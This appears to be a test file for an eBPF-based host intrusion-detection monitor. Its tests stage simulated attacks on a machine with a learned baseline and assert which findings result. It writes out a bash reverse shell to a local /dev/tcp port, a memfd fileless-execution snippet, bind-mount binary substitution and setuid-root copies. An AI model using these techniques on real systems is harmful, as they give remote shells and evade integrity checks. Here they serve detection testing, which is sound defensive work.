// What really ran, on the real kernel (eBPF source), after the host baseline learned and
// locked: each way an attacker passes a learned path off as the program it names is a finding,
// and the benign changes that look alike are not.
//
//   attacks                                        finding
//   a learned file overwritten in place            proc-modified-binary (critical)
//   a bind mount over it in a private mount ns     proc-modified-binary: the real file is hashed
//   a new file named "<learned path> (deleted)"    proc-unexpected: a path nobody learned
//   a memfd under a name run while learning        proc-unexpected: memory is never learned
//   bash -i >& /dev/tcp/...                        proc-reverse-shell
//   python3 -c from a learned python3              proc-inline-code
//   the loader running a fresh binary              proc-unexpected for the program it loads
//   a setuid-root copy run by nobody               shows uid nobody and euid root
//
//   benign                                         no finding
//   a package-manager upgrade (md5sums vouches)    the content is learned as `package`
//   a service whose stdout is a unix socket        no reverse shell
//   python3 -m                                     no inline code
//
// Each test works on its own copies of system binaries (fresh paths) so other tests running
// on this machine at the same time cannot teach its baseline anything. Needs root in the
// host's namespaces and the eBPF addon (as test/processes/ebpf-exec.test.ts), util-linux's
// unshare and setpriv, bash and python3: skipped elsewhere with the reason, failed in CI.
import type { ExecutionContext } from 'ava';
import { spawn, type StdioOptions } from 'node:child_process';
import { createHash } from 'node:crypto';
import { realpathSync } from 'node:fs';
import { chmod, copyFile, mkdir, readFile, rename, writeFile } from 'node:fs/promises';
import { createServer, type AddressInfo } from 'node:net';
import { join } from 'node:path';
import { createProcessMonitor, type ProcessMonitor, type ProcessMonitorConfig } from '../../agent/processes/monitor.js';
import type { Spool } from '../../agent/report/spool.js';
import { createLogger } from '../../proto/support/logger.js';
import { needs } from '../helpers/requirements.js';
import { EBPF_PACKAGES, ebpfAvailable, freshBinary, HOST_WORKER, monitorConfig, spooledFindings, tempDir, testSpool, THIS_MACHINE, waitFor, type SpooledFinding } from './helpers.js';

const log = createLogger('test', 'silent');
const SLEEP = '/usr/bin/sleep';
const BASH = '/usr/bin/bash';
const PYTHON = '/usr/bin/python3';
const LOADER = '/lib64/ld-linux-x86-64.so.2';

const available = (): true | string => ebpfAvailable(PYTHON, BASH, '/usr/bin/unshare', '/usr/bin/setpriv', LOADER);

const realTest = needs({
  what: 'the eBPF exec source (root on the host, addons built), bash, python3, unshare and setpriv',
  packages: [...EBPF_PACKAGES, 'python3', 'bash', 'util-linux'], check: available,
});

interface Setup {
  readonly m: ProcessMonitor;
  readonly spool: Spool;
  readonly dir: string;
}

const sha256 = (b: Buffer): string => createHash('sha256').update(b).digest('hex');
const md5 = (b: Buffer): string => createHash('md5').update(b).digest('hex');

/** Runs a command to its end; resolves with its exit code. */
function run(cmd: string, args: readonly string[], opts: { stdio?: StdioOptions; env?: NodeJS.ProcessEnv; cwd?: string } = {}): Promise<number | null> {
  return new Promise((resolve, reject) => {
    const c = spawn(cmd, args, { stdio: opts.stdio ?? 'ignore', env: opts.env ?? process.env, cwd: opts.cwd });
    c.once('error', reject);
    c.once('exit', (code) => resolve(code));
  });
}

/**
 * A monitor on the eBPF source whose host baseline learns while `learn` runs (the programs the
 * test later abuses), then locks. `hostRoot` defaults to this machine's root.
 */
async function setup(t: ExecutionContext, learn: (dir: string, m: ProcessMonitor) => Promise<void>, over: Partial<ProcessMonitorConfig> = {}, prepare?: (dir: string) => Promise<void>): Promise<Setup> {
  t.timeout(60_000);
  const d = await tempDir('identity');
  t.teardown(d.cleanup);
  await chmod(d.path, 0o755);
  await prepare?.(d.path);
  const spool = testSpool(join(d.path, 'spool'));
  t.teardown(() => spool.close());
  const m = createProcessMonitor(monitorConfig({
    procRoot: '/proc', hostRoot: '/', stateDir: join(d.path, 'state'), scanIntervalMs: 0, execEvents: true, hostLearnMs: 60_000,
    rateBurst: 1000, ...THIS_MACHINE, ...over,
  }), { log, spool, notify: () => undefined });
  t.teardown(() => m.stop());
  await m.start();
  await learn(d.path, m);
  // Lock now, as an operator would (the window would end on its own; the test does not wait).
  m.applyBaselineChange({ version: 0, key: HOST_WORKER, allowed: [], removed: [], lock: 'lock' });
  return { m, spool, dir: d.path };
}

/** Waits until the baseline holds `exe` with a content (learning is asynchronous: hashing). */
async function learned(m: ProcessMonitor, exe: string): Promise<void> {
  await waitFor(`${exe} learned with its content`, () => {
    const item = m.snapshot().baselines.find((b) => b.key === HOST_WORKER)?.items[exe];
    return item?.digests?.length ? item : undefined;
  });
}

/** The findings of `checkId` whose exe is `exe`, once there is one. */
async function findingOf(s: Setup, checkId: string, exe: string): Promise<SpooledFinding> {
  try {
    return await waitFor(`${checkId} for ${exe}`, () => {
      s.m.flush();
      return spooledFindings(s.spool).find((f) => f.finding.checkId === checkId && f.detail.exe === exe);
    });
  } catch (err) {
    const seen = spooledFindings(s.spool).filter((f) => f.detail.exe.startsWith(s.dir) || f.detail.context).map((f) => `${f.finding.checkId} ${f.detail.exe}`);
    throw new Error(`${(err as Error).message}; findings of the test: ${seen.join(', ') || 'none'}`);
  }
}

/** Nothing but `allowed` checks for `exe` once a marker exec (a fresh copy of true) has been judged after it. */
async function quietFor(t: ExecutionContext, s: Setup, exe: string): Promise<SpooledFinding[]> {
  const marker = await freshBinary(s.dir, '/usr/bin/true', `marker-${Math.random().toString(36).slice(2)}`);
  await run(marker, []);
  await findingOf(s, 'proc-unexpected', marker);
  const about = spooledFindings(s.spool).filter((f) => f.detail.exe === exe);
  t.deepEqual(about.map((f) => f.finding.checkId), [], `no finding for ${exe}`);
  return about;
}

realTest('a learned file overwritten in place is proc-modified-binary, with the learned and the new content', async (t) => {
  let bin = '';
  const s = await setup(t, async (dir, m) => {
    bin = await freshBinary(dir, SLEEP, 'tool');
    await run(bin, ['0.05']);
    await learned(m, bin);
  });
  const before = await readFile(bin);
  const after = Buffer.concat([before, Buffer.from('\0appended by the test\0')]);
  await writeFile(bin, after); // the same inode, new content
  await run(bin, ['0.05']);
  const f = await findingOf(s, 'proc-modified-binary', bin);
  t.is(f.finding.severity, 'SEVERITY_CRITICAL');
  t.is(f.detail.identity?.sha256, sha256(after));
  t.deepEqual(f.detail.identity?.baselineSha256, [sha256(before)]);
  t.is(f.detail.identity?.notVouched, 'not-owned');
  t.false(spooledFindings(s.spool).some((x) => x.finding.checkId === 'proc-unexpected' && x.detail.exe === bin), 'the path itself is known');
});

realTest('a bind mount over a learned path in a private mount namespace: the real file is hashed, and it is proc-modified-binary', async (t) => {
  let bin = '';
  const s = await setup(t, async (dir, m) => {
    bin = await freshBinary(dir, SLEEP, 'mounted');
    await run(bin, ['0.05']);
    await learned(m, bin);
  });
  const evil = join(s.dir, 'evil');
  await writeFile(evil, Buffer.concat([await readFile(SLEEP), Buffer.from('\0evil\0')]), { mode: 0o755 });
  // The mount exists only in the new namespace: on the host, the learned file is unchanged. The
  // process lives long enough to be read through /proc/<pid>/exe even on a loaded machine (a
  // process gone sooner from a private mount namespace is proc-unverified-binary).
  const code = await run('/usr/bin/unshare', ['--mount', '--propagation', 'private', BASH, '-c', 'mount --bind "$1" "$2" && exec "$2" 2', 'sh', evil, bin]);
  t.is(code, 0);
  const f = await findingOf(s, 'proc-modified-binary', bin);
  t.is(f.detail.identity?.sha256, sha256(await readFile(evil)));
  t.deepEqual(f.detail.identity?.baselineSha256, [sha256(await readFile(bin))]);
});

realTest('a file named "<learned path> (deleted)" is a path of its own: proc-unexpected, and not deleted', async (t) => {
  let bin = '';
  const s = await setup(t, async (dir, m) => {
    bin = await freshBinary(dir, SLEEP, 'named');
    await run(bin, ['0.05']);
    await learned(m, bin);
  });
  const fake = `${bin} (deleted)`;
  await copyFile(SLEEP, fake);
  await chmod(fake, 0o755);
  await run(fake, ['0.05']);
  const f = await findingOf(s, 'proc-unexpected', fake);
  t.false(f.detail.exeDeleted);
  t.is(f.detail.identity?.sha256, sha256(await readFile(SLEEP)));
});

const MEMFD_RUN = 'import os,sys\nfd=os.memfd_create(sys.argv[1])\nos.write(fd,open(sys.argv[2],"rb").read())\nos.execv("/proc/self/fd/%d" % fd,["x","0.05"])\n';

realTest('a memfd is never learned: run while learning and again after the lock under the same name, it is a finding both times', async (t) => {
  const s = await setup(t, async () => {
    t.is(await run(PYTHON, ['-c', MEMFD_RUN, 'nw-payload', SLEEP]), 0);
  });
  await run(PYTHON, ['-c', MEMFD_RUN, 'nw-payload', SLEEP]);
  const exe = '/memfd:nw-payload';
  await waitFor('two memfd findings', () => {
    s.m.flush();
    const n = spooledFindings(s.spool).filter((f) => f.finding.checkId === 'proc-unexpected' && f.detail.exe === exe)
      .reduce((sum, f) => sum + (f.finding.occurrences ?? 0), 0);
    return n >= 2;
  });
  const item = s.m.snapshot().baselines.find((b) => b.key === HOST_WORKER)?.items[exe];
  t.is(item, undefined, 'not in the baseline');
  t.true(s.m.stats().content.fromMemory >= 2);
});

realTest('bash started with its stdio on a TCP connection (bash -i >& /dev/tcp/...) is proc-reverse-shell; a unix-socket stdout is not', async (t) => {
  let bash = '';
  const s = await setup(t, async (dir, m) => {
    bash = await freshBinary(dir, BASH, 'bash');
    await run(bash, ['-c', 'true']); // stdio: /dev/null; learns bash (and that it runs inline code)
    await learned(m, bash);
  });
  const server = createServer((c) => c.end());
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  t.teardown(() => server.close());
  const port = (server.address() as AddressInfo).port;
  // A service whose stdout and stderr are a unix socket (as journald gives every service).
  await run(bash, ['-c', 'echo to-a-unix-socket'], { stdio: ['ignore', 'pipe', 'pipe'] });
  await quietFor(t, s, bash);
  await run(bash, ['-c', `exec ${bash} -i >& /dev/tcp/127.0.0.1/${port} 0>&1`]);
  const f = await findingOf(s, 'proc-reverse-shell', bash);
  t.is(f.finding.severity, 'SEVERITY_CRITICAL');
  t.like(f.detail.context?.stdio?.[0], { kind: 'socket', family: 'inet' });
  t.is(f.detail.context?.interpreter, 'bash');
});

realTest('python3 -c from a learned python3 that never ran inline code is proc-inline-code; python3 -m is not', async (t) => {
  let py = '';
  const env = { ...process.env, PYTHONHOME: '/usr' };
  const s = await setup(t, async (dir, m) => {
    py = await freshBinary(dir, PYTHON, 'python3');
    t.is(await run(py, ['-V'], { env }), 0);
    await learned(m, py);
  });
  t.is(await run(py, ['-m', 'platform'], { env }), 0);
  await quietFor(t, s, py);
  t.is(await run(py, ['-c', 'import socket; socket.socket().close()'], { env }), 0);
  const f = await findingOf(s, 'proc-inline-code', py);
  t.is(f.finding.severity, 'SEVERITY_MEDIUM');
  t.is(f.detail.context?.inlineFlag, '-c');
});

realTest('the loader run directly is judged by the program it loads: a fresh binary through a learned loader is proc-unexpected for that binary', async (t) => {
  const s = await setup(t, async () => undefined);
  const payload = await freshBinary(s.dir, SLEEP, 'payload');
  t.is(await run(LOADER, [payload, '0.05']), 0);
  const f = await findingOf(s, 'proc-unexpected', payload);
  t.is(f.detail.context?.loader, realpathSync(LOADER), 'the canonical path the kernel gives');
  t.is(f.detail.context?.loadedProgram, payload);
  // The monitor sees every exec on the machine: another test running the loader with a program
  // it cannot name is reported under the loader's path. Only this run (its payload) counts here.
  const ofThisRun = spooledFindings(s.spool).filter((x) => x.detail.cmdline.includes(payload));
  t.true(ofThisRun.length > 0);
  t.false(ofThisRun.some((x) => x.detail.exe === realpathSync(LOADER)), 'the loader itself is not what is judged');
});

realTest('a setuid-root copy run by nobody shows both users: nobody, and root in effect', async (t) => {
  const s = await setup(t, async () => undefined);
  const copy = await freshBinary(s.dir, SLEEP, 'suid-sleep');
  await chmod(copy, 0o4755);
  t.is(await run('/usr/bin/setpriv', ['--reuid=65534', '--regid=65534', '--clear-groups', copy, '0.05']), 0);
  const f = await findingOf(s, 'proc-unexpected', copy);
  t.is(f.detail.uid, 65534);
  t.is(f.detail.euid, 0);
  t.is(f.detail.user, 'nobody');
  t.is(f.detail.effectiveUser, 'root');
});

realTest('a package-manager upgrade of a learned host binary (new content, matching md5sums) is learned as package, not reported', async (t) => {
  // A host tree whose dpkg records the path; the running file is read through /proc/<pid>/exe.
  const host = await tempDir('identity-host');
  t.teardown(host.cleanup);
  const info = join(host.path, 'var/lib/dpkg/info');
  await mkdir(info, { recursive: true });
  let bin = '';
  const s = await setup(t, async (dir, m) => {
    bin = await freshBinary(dir, SLEEP, 'pkgtool');
    await run(bin, ['2']);
    await learned(m, bin);
  }, { hostRoot: host.path });
  const upgraded = Buffer.concat([await readFile(SLEEP), Buffer.from('\0version 2\0')]);
  // dpkg's way: the new file beside the old, renamed over it, and its md5sums written.
  await writeFile(`${bin}.dpkg-new`, upgraded, { mode: 0o755 });
  await rename(`${bin}.dpkg-new`, bin);
  await writeFile(join(info, 'nodeward-test-tool.md5sums'), `${md5(upgraded)}  ${bin.slice(1)}\n`);
  // Alive long enough to be read through /proc/<pid>/exe on a loaded machine: this host tree
  // does not hold the file, so a process gone first would be proc-unverified-binary.
  await run(bin, ['2']);
  await waitFor('the upgrade', () => s.m.stats().content.upgraded >= 1);
  const item = s.m.snapshot().baselines.find((b) => b.key === HOST_WORKER)?.items[bin];
  t.like(item?.digests?.find((d) => d.sha256 === sha256(upgraded)), { source: 'package' });
  await quietFor(t, s, bin);
});
